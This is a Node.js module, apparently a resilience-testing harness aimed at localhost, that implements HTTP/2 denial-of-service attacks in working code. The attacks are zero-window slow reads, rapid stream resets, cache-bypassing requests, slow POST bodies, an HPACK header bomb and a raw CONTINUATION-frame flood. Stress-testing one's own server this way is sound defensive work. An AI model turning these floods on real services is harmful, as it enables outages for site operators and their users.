// Attacks over HTTP/2, which many requests share one connection of.
import { connect, constants } from 'node:http2';
import { connect as connectSecurely } from 'node:tls';
import { unverified } from './proxies.mjs';

const search = (text) => ({ ':path': `/search?q=${text}` });
const word = () => Math.random().toString(36).slice(2, 10);
const form = {
  ':method': 'POST',
  ':path': '/contact',
  'sec-fetch-site': 'same-origin',
  'content-type': 'application/x-www-form-urlencoded',
  'content-length': '60000',
};

/** Instead of the attack of the same name over HTTP/1.1, and further ones. */
export const streamAttacks = {
  'readers that never read': ({ session }) => {
    for (let count = 0; count < 20; count++) {
      const send = session({ settings: { initialWindowSize: 0 } });
      for (let index = 0; index < 100; index++) send({ ':path': index % 2 ? '/' : '/social.png' }).pause();
    }
  },
  'abandoned requests': ({ session, often }) => {
    const send = session();
    often(10, 630, (sent) => {
      for (let index = 0; index < 10; index++) send(search(`word${sent + index}`)).close(constants.NGHTTP2_CANCEL);
    });
  },
  'past the page cache': ({ session, often }) => {
    const send = session();
    const headers = [{ range: 'bytes=0-1' }, { authorization: 'x' }, { cookie: 'flash=x' }, { cookie: 'session=x' }];
    often(1, 40, (sent) => send({ ':path': `/tours/2?u=${sent}`, ...headers[sent % 4] }).resume());
  },
  'searches for unknown words': ({ session, often }) => {
    const send = session();
    often(2, 85, () => send(search(Array.from({ length: 8 }, word).join('+'))).resume());
  },
  'slow posts': ({ session, often }) => {
    const streams = new Set();
    const sends = Array.from({ length: 20 }, () => session());
    often(2, 60, (sent) => {
      if (streams.size >= 2000) return;
      const stream = sends[sent % sends.length](form);
      streams.add(stream);
      stream.on('close', () => streams.delete(stream));
    });
    setInterval(() => {
      for (const stream of streams) stream.write('a');
    }, 4000);
  },
  // A field of 4,000 bytes is sent once; then each repetition costs one byte.
  'headers that unpack to 1 MB': ({ session, often }) => {
    const send = session({ maxSendHeaderBlockLength: 4 * 1024 * 1024 });
    const large = { 'x-large': Array(250).fill('a'.repeat(3900)) };
    often(5, 300, (sent) => send({ ':path': `/search?q=${sent}`, ...large }).resume());
  },
  'header blocks without an end': ({ often, openRaw }) => {
    const sockets = Array.from({ length: 20 }, openRaw);
    for (const socket of sockets) {
      // The preface, empty settings, and the headers of a first stream that do not end.
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      socket.write(Buffer.concat([frame(0x4, 0, 0, ''), frame(0x1, 0x1, 1, '\x82\x84\x87')]));
    }
    // A header named a with the value b, which no table remembers.
    const continuation = frame(0x9, 0, 1, '\x00\x01a\x01b'.repeat(10));
    often(2, 60, (sent) => void sockets[sent % sockets.length].write(continuation));
  },
};

/** A frame of HTTP/2: its length, type, flags and stream, then its content. */
function frame(type, flags, stream, content) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(content.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, Buffer.from(content, 'latin1')]);
}

/** A connection that has agreed on HTTP/2 and leaves the frames to its user. */
export function openRawConnection(url) {
  const socket = connectSecurely({ ...unverified(Number(new URL(url).port)), ALPNProtocols: ['h2'] });
  socket.on('error', () => undefined);
  return socket.resume();
}

/** A function that opens a connection, which sends requests; a closed one is opened anew with the next request. */
export const openSessions = (url) => (options) => {
  let session = null;
  return (headers) => {
    if (session === null || session.closed || session.destroyed) {
      session = connect(url, { ...unverified(Number(new URL(url).port)), ...options });
      session.on('error', () => undefined);
    }
    const stream = session.request(
      { ':authority': 'localhost', ...headers },
      { endStream: !headers['content-length'] },
    );
    return stream.on('error', () => undefined);
  };
};
